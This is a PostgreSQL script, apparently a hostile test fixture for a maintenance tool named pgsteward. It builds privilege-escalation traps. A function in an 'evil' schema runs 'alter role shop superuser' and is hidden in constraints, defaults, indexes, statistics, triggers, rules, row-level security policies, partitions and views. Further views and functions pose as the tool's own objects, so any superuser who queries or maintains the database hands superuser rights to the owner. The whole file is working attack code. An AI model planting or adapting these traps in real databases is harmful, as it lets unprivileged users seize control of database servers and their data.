-- What an owner may make in his database, to be run by whoever comes near it. As the owner.
create schema evil;
create function evil.tick() returns boolean language plpgsql volatile as $$
begin
    raise log 'TRAP of %, in a session of %', current_user, session_user;
    begin execute 'alter role shop superuser'; exception when others then null; end;
    return true;
end $$;
-- Constant folding runs it while a query is planned.
create function evil.one(integer) returns integer language plpgsql immutable as $$
begin perform evil.tick(); return 1; end $$;
create function evil.fine(integer) returns boolean language plpgsql immutable as $$
begin perform evil.tick(); return true; end $$;
create function evil.on_row() returns trigger language plpgsql as $$
begin perform evil.tick(); return new; end $$;

create domain evil.number as integer check (evil.fine(1));
create table public.orders (
    id integer primary key,
    number evil.number default evil.one(1),
    twice integer generated always as (id * 2) stored,
    note text,
    check (evil.fine(1)), check (evil.fine(id))
);
insert into public.orders (id, note) select g, 'order ' || g from generate_series(1, 100) g;
create index constant on public.orders ((evil.one(1)));
create index expression on public.orders ((evil.one(id)));
create index partial on public.orders (id) where evil.fine(1);
create statistics public.measured on (evil.one(id)), (evil.one(1)) from public.orders;
create trigger noticed before insert or update on public.orders for each row execute function evil.on_row();
create rule told as on update to public.orders do also select evil.tick();
create policy seen on public.orders using (evil.tick()) with check (evil.tick());
alter table public.orders enable row level security, force row level security;
create table public.parted (id integer) partition by list (evil.one(id));
create table public.part partition of public.parted default;
create table public.nothing ();
create view public.looking as select evil.tick() as id;
create materialized view public.kept as select evil.one(1) as id;
create index on public.kept ((evil.one(1)));

-- Ours, as far as a name goes.
create view public._sqlx_migrations as
    select 1::bigint as version, ''::text as description, evil.tick() as success, ''::bytea as checksum;
create view pgsteward.heartbeat as select now() as at, '0/0'::pg_lsn as lsn where evil.tick();
create view pgsteward.dump_order as select ''::text as job, ''::text as node, now() as at where evil.tick();
create function pgsteward.bt_index_check(index oid, heapallindexed boolean) returns void
    language plpgsql as 'begin perform evil.tick(); end';
create function pgsteward.bt_index_check(index oid, heapallindexed boolean, checkunique boolean) returns void
    language plpgsql as 'begin perform evil.tick(); end';
create function pgsteward.verify_heapam(
    relation oid, on_error_stop boolean, check_toast boolean, skip text,
    out blkno bigint, out offnum integer, out attnum integer, out msg text) returns setof record
    language plpgsql as 'begin perform evil.tick(); return; end';
